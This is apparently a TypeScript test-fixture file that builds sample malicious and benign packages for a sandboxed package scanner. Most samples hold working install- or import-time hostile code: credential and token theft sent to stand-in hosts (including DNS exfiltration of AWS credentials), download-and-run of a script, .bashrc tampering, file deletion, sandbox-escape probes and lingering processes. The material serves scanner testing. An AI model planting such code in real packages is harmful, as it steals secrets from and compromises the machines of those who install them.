import { npmTarball, sdist, wheel } from './package-archives.ts';

/**
 * Packages that do what thieves do, with planted secrets and names nobody owns. They are meant for a sandbox without network;
 * outside of one they would talk to hosts that do not exist.
 */
export interface Sample {
  readonly file: string;
  readonly bytes: Uint8Array;
}

const STEAL_FROM_PATH_FILE = [
  'import os, base64, urllib.request as u; ',
  "u.urlopen(u.Request('http://collect.example/x', ",
  "data=base64.b64encode(os.environ['OPENAI_API_KEY'].encode())))\n",
].join('');

/** A wheel whose `.pth` file sends a variable, in base64, whenever an interpreter starts. */
export const pathFileThief: Sample = {
  file: 'pathfile-1.0-py3-none-any.whl',
  bytes: wheel({
    name: 'pathfile',
    version: '1.0',
    files: { 'pathfile/__init__.py': '', 'pathfile.pth': STEAL_FROM_PATH_FILE },
  }),
};

const SETUP_THAT_SENDS_NAMES = `
import binascii, os, socket
from setuptools import setup
data = binascii.hexlify(open(os.path.expanduser('~/.aws/credentials'), 'rb').read()).decode()
for start in range(0, len(data), 50):
    try:
        socket.gethostbyname('%s.%d.names.collect.example' % (data[start:start + 50], start))
    except OSError:
        pass
setup(name='nametalk', version='1.0', packages=['nametalk'])
`;

/** An sdist whose setup.py reads cloud credentials and sends them as names to look up. */
export const nameThief: Sample = {
  file: 'nametalk-1.0.tar.gz',
  bytes: sdist({
    name: 'nametalk',
    version: '1.0',
    files: { 'setup.py': SETUP_THAT_SENDS_NAMES, 'nametalk/__init__.py': '' },
  }),
};

const POST_TOKEN = `
const https = require('https');
const request = https.request('https://api.collect.example/log', { method: 'POST' }, (answer) => answer.resume());
request.end(JSON.stringify({ data: Buffer.from('x' + process.env.NPM_TOKEN).toString('base64') }));
`;

/** An npm package whose postinstall sends a token, in base64, over an encrypted connection. */
export const postinstallThief: Sample = {
  file: 'posttalk-1.0.0.tgz',
  bytes: npmTarball(
    { name: 'posttalk', version: '1.0.0', scripts: { postinstall: 'node post.js' } },
    { 'post.js': POST_TOKEN },
  ),
};

const FETCH_AND_RUN = `
const { execFileSync } = require('child_process');
const { writeFileSync } = require('fs');
require('http').get('http://cdn.stage.example/setup.sh', (answer) => {
  let text = '';
  answer.on('data', (chunk) => (text += chunk));
  answer.on('end', () => {
    writeFileSync('/tmp/.setup.sh', text);
    execFileSync('sh', ['/tmp/.setup.sh']);
  });
});
`;

/** An npm package that runs what it downloads. */
export const downloader: Sample = {
  file: 'fetchrun-1.0.0.tgz',
  bytes: npmTarball(
    { name: 'fetchrun', version: '1.0.0', scripts: { preinstall: 'node get.js' } },
    { 'get.js': FETCH_AND_RUN },
  ),
};

const DECODES_AND_RUNS = `
import base64, os, pathlib
exec(base64.b64decode(b'cHJpbnQoIm1hZGUgd2hpbGUgcnVubmluZyIpICMgc2Vjb25kIGxheWVy'))
pathlib.Path.home().joinpath('.bashrc').open('a').write('# again\\n')
os.remove(pathlib.Path.home() / 'Documents' / 'notes.txt')
`;

/** A wheel that decodes source, changes what a shell starts with and deletes a document, when it is imported. */
export const importer: Sample = {
  file: 'importact-1.0-py3-none-any.whl',
  bytes: wheel({
    name: 'importact',
    version: '1.0',
    files: { 'importact/__init__.py': DECODES_AND_RUNS },
  }),
};

const LOOKS_AROUND = `
import ctypes, os
library = ctypes.CDLL(None)
def attempt(call):
    child = os.fork()
    if child == 0:
        call()
        os._exit(0)
    os.waitpid(child, 0)
attempt(lambda: library.ptrace(0, 0, 0, 0))
attempt(lambda: library.unshare(0x10000000))
attempt(lambda: library.mount(b'none', b'/tmp', b'tmpfs', 0, 0))
def opens(path):
    try:
        os.close(os.open(path, os.O_WRONLY))
        return path
    except OSError:
        return None
print('open', [path for path in map(opens, ['/proc/sys/kernel/core_pattern', '/proc/sys/kernel/modprobe', '/proc/sysrq-trigger', '/etc/passwd', '/dev/mem']) if path])
print('still here', sorted(os.listdir('/')), os.path.exists('/root/.ssh'), os.listdir('/home'))
`;

/** A wheel that tries to watch other processes and to make namespaces of its own. */
export const prisoner: Sample = {
  file: 'prisoner-1.0-py3-none-any.whl',
  bytes: wheel({
    name: 'prisoner',
    version: '1.0',
    files: { 'prisoner/__init__.py': LOOKS_AROUND },
  }),
};

/** A wheel that never ends and leaves processes behind, in sessions of their own. */
export const stayer: Sample = {
  file: 'stayer-1.0-py3-none-any.whl',
  bytes: wheel({
    name: 'stayer',
    version: '1.0',
    files: {
      'stayer/__init__.py':
        "import subprocess, sys\nfor i in range(5): subprocess.Popen(['sleep', '7193'], start_new_session=True)\nwhile True: pass\n",
    },
  }),
};

const HONEST_MODULE = `
import collections, json
import requests
from numpy import array
Point = collections.namedtuple('Point', 'x y')
def main():
    print('usage: colours [--help]')
`;

/** A wheel with a command and dependencies that are not installed. */
export const honestWheel: Sample = {
  file: 'colours-1.0-py3-none-any.whl',
  bytes: wheel({
    name: 'colours',
    version: '1.0',
    files: {
      'colours/__init__.py': HONEST_MODULE,
      'colours-1.0.dist-info/entry_points.txt': '[console_scripts]\ncolours = colours:main\n',
    },
  }),
};

/** An npm package whose postinstall looks whether there is something to compile, and finds nothing. */
export const honestTarball: Sample = {
  file: 'palette-1.0.0.tgz',
  bytes: npmTarball(
    {
      name: 'palette',
      version: '1.0.0',
      bin: { palette: 'cli.js' },
      dependencies: { lodash: '^4' },
      scripts: { postinstall: 'node build.js' },
    },
    {
      'index.js': "const lodash = require('lodash');\nmodule.exports = lodash.map;\n",
      'build.js':
        "const fs = require('fs');\nif (fs.existsSync('native')) throw new Error('no compiler');\nfs.mkdirSync('build', { recursive: true });\nfs.writeFileSync('build/done', process.version);\n",
      'cli.js': "#!/usr/bin/env node\nconsole.log('usage: palette');\n",
    },
  ),
};

/** The same as a source distribution built by setuptools. */
export const honestSource: Sample = {
  file: 'colours-1.0.tar.gz',
  bytes: sdist({
    name: 'colours',
    version: '1.0',
    files: {
      'setup.py':
        "from setuptools import setup\nsetup(name='colours', version='1.0', packages=['colours'])\n",
      'colours/__init__.py': HONEST_MODULE,
    },
  }),
};
